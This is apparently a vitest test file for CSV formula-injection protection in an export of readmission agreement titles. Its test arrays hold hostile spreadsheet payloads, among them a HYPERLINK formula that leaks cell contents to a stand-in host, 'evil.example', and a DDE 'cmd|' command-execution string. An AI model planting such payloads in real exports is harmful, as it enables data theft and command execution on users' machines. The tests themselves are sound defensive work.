/**
 * CSV formula injection (OWASP API8; OWASP "CSV Injection"): the readmission-obstacles export
 * carries the agreement title, free text an admin typed. A title a spreadsheet would run as a
 * formula (`=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)`) must come out as text, and no cell may break
 * out of its quotes into the next column or row.
 *
 * Protection: `csvField` (services/api/csv.ts): a cell whose first visible character starts a
 * formula gets a leading apostrophe, then RFC 4180 quoting. The first version looked at the
 * very first character only, so white space or an invisible character before the `=` (which
 * spreadsheets trim on import: LibreOffice's "trim spaces", Excel on a pasted column) and the
 * full-width `＝＋－＠` (which Excel's East Asian input turns into formula signs) went through.
 * Go back to `/^[=+\-@\t\r]/` → "white space, invisible and full-width characters before a
 * formula sign" fails.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField } from '../../services/api/csv.ts';
import { Api } from '../support/api-flow.ts';
import { startTestApp, type TestApp } from '../support/test-app.ts';

/** How a spreadsheet sees a cell: the unquoted text, before any trimming of its own. */
const unquote = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);

describe('csvField', () => {
  it.each([
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
  ])('the OWASP list: %j is text', (value) => {
    const cell = unquote(csvField(value));
    expect(cell.startsWith("'")).toBe(true);
    expect(cell.slice(1)).toBe(value);
  });

  it.each([
    ' =1+1',
    '  +1+1',
    '\n=1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '＝1+1',
    '＋1+1',
    '－1',
    '＠SUM(A1)',
  ])('white space, invisible and full-width characters before a formula sign: %j is text', (value) => {
    const cell = unquote(csvField(value));
    expect(cell.startsWith("'"), JSON.stringify(cell)).toBe(true);
    expect(cell.slice(1)).toBe(value);
  });

  it('leaves ordinary text, numbers and codes as they are', () => {
    for (const value of ['DE–PK readmission agreement', 'a=b', 'PK', '2026-11-02', 'x-1', 'Zoë'])
      expect(csvField(value)).toBe(value);
    expect(csvField(-3)).toBe('-3');
    expect(csvField(0.25)).toBe('0.25');
  });

  it('no cell breaks out of its quotes: separators and line breaks stay inside', () => {
    for (const value of ['a","=1+1', 'a\r\n=1+1,b', '"=1+1"', 'a;=1+1', 'x\u2028=1'])
      expect(unquote(csvField(value))).not.toMatch(/^[=+\-@]/);
    expect(csvField('a","=1+1')).toBe('"a"",""=1+1"');
  });
});

describe('the readmission-obstacles export', () => {
  let t: TestApp;
  let api: Api;
  const TITLES = ['=HYPERLINK("http://evil.example","x")', ' +SUM(1,2)', '＝1+1', '-1+2', '@A1'];
  beforeAll(async () => {
    t = await startTestApp();
    api = await Api.start(t);
    for (const [i, title] of TITLES.entries()) {
      const agreementId = await api.agreement({ title, originState: ['PK', 'MA', 'NG', 'GH', 'SN'][i]! });
      await api.requested(agreementId, { originState: ['PK', 'MA', 'NG', 'GH', 'SN'][i]! });
    }
  });
  afterAll(() => t?.close());

  it('carries the hostile titles as text in the agreementTitle column', async () => {
    // Read-your-writes up to the head of the log (the read models' own position may lag behind it).
    const position = await t.services.store.headPosition();
    const res = await t.call(
      'GET',
      `/v1/reports/readmission-obstacles?minPosition=${position}`,
      await t.token('analyst'),
      undefined,
      { accept: 'text/csv' },
    );
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="readmission-obstacles-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const text = res.body;
    for (const title of TITLES) expect(text).toContain(`'${title}`.replaceAll('"', '""'));
    // No line of the file starts a cell with a formula sign outside quotes.
    for (const line of text.split('\r\n')) expect(line, line).not.toMatch(/(^|,)[=+@]/);
  });
});
